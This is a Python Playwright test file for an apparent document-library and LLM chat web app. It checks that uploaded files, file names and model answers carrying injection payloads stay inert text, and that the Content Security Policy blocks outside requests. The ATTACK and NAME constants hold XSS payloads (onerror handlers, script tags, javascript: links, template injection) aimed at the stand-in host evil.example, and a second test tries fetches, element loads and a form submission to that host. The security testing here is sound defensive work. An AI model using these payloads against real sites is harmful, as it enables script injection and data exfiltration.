"""Nothing that a document, a file's name or a model says becomes part of the page, and the page's policy holds."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.fakes import ScriptedLLM
from tests.ui.conftest import Serve, Visit
from tests.ui.steps import ask, drop, open_library, open_settings, row

pytestmark = pytest.mark.browser

ATTACK = (
    "<img src=https://evil.example/a.png onerror='window.pwned=1'> ![b](https://evil.example/b.png) "
    "<script>window.pwned=2</script> <iframe src=https://evil.example></iframe> ${window.pwned=3} {{this}} "
    "<a href='javascript:window.pwned=4'>c</a> <style>@import url(https://evil.example/d.css)</style>"
)
NAME = "<img src=x onerror=window.pwned=5> ${window.pwned=6}.md"


def listen(page: Page) -> None:
    page.evaluate(
        "() => { window.refused = []; "
        "addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective)) }"
    )


def unharmed(page: Page) -> None:
    """Nothing ran, nothing of it is an element, and nothing had even to be refused."""
    page.wait_for_timeout(200)
    assert page.evaluate("() => [window.pwned ?? 0, window.refused]") == [0, []]
    assert page.locator("[src*='evil.example'], [href*='evil.example'], [href^='javascript:']").count() == 0


def test_a_hostile_document_and_a_hostile_answer_are_text_wherever_they_are_shown(
    visit: Visit, serve: Serve
) -> None:
    llm = ScriptedLLM(name=f"model {ATTACK}")
    page = visit(serve(llm=llm), locale="en-GB")
    listen(page)
    open_library(page)
    drop(page, (NAME, f"# Walrus {ATTACK}\n\nThe walrus plan starts in May. {ATTACK}\n".encode()))
    expect(row(page, "onerror")).to_be_visible()
    unharmed(page)
    row(page, "onerror").locator("[data-action=chunks]").click()
    expect(page.locator("dialog.view .chunks")).to_contain_text("walrus plan")
    unharmed(page)
    page.keyboard.press("Escape")
    page.get_by_role("tab").nth(2).click()
    page.fill("#try :is(textarea, input)", f"When does the walrus plan start? {ATTACK}")
    page.press("#try :is(textarea, input)", "Enter")
    expect(page.locator("#tried")).to_contain_text("walrus")
    unharmed(page)
    page.get_by_role("tab").first.click()
    llm.enqueue(f"The walrus plan starts in May [1]. {ATTACK}")
    answer = ask(page, "When does the walrus plan start?")
    answer.locator("a.cite").first.click()
    page.locator(".src-card.on .src-score").click()
    unharmed(page)
    page.locator(".src-card.on .src-open").click()
    expect(page.locator("dialog.view .view-text")).to_contain_text("walrus plan")
    unharmed(page)
    page.keyboard.press("Escape")
    open_settings(page)
    unharmed(page)


def test_what_would_leave_the_host_or_take_the_page_over_is_refused_by_the_browser(
    browser: Browser, serve: Serve
) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(serve().url)
    page.wait_for_selector("#ask textarea")
    left: list[str] = []
    page.on("response", lambda response: left.append(response.url) if "evil" in response.url else None)
    listen(page)
    page.evaluate(
        """async () => {
            new Image().src = "https://evil.example/a.png";
            await fetch("https://evil.example/b").catch(() => {});
            const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
            add("script", { src: "https://evil.example/c.js" });
            add("link", { rel: "stylesheet", href: "https://evil.example/d.css" });
            add("iframe", { src: "https://evil.example/e" });
            add("object", { data: "https://evil.example/f" });
            add("video", { src: "https://evil.example/g.mp4" });
            document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
            const form = Object.assign(document.createElement("form"), { action: "https://evil.example/h" });
            document.body.append(form);
            form.submit();
        }"""
    )
    wanted = {
        "img-src",
        "connect-src",
        "script-src-elem",
        "style-src-elem",
        "frame-src",
        "object-src",
        "media-src",
    }
    wanted |= {"form-action"}
    for _ in range(50):
        found = set(page.evaluate("() => window.refused"))
        if found >= wanted:
            break
        page.wait_for_timeout(100)
    assert wanted <= found and left == []
    assert "evil" not in page.evaluate("() => document.baseURI")
    context.close()
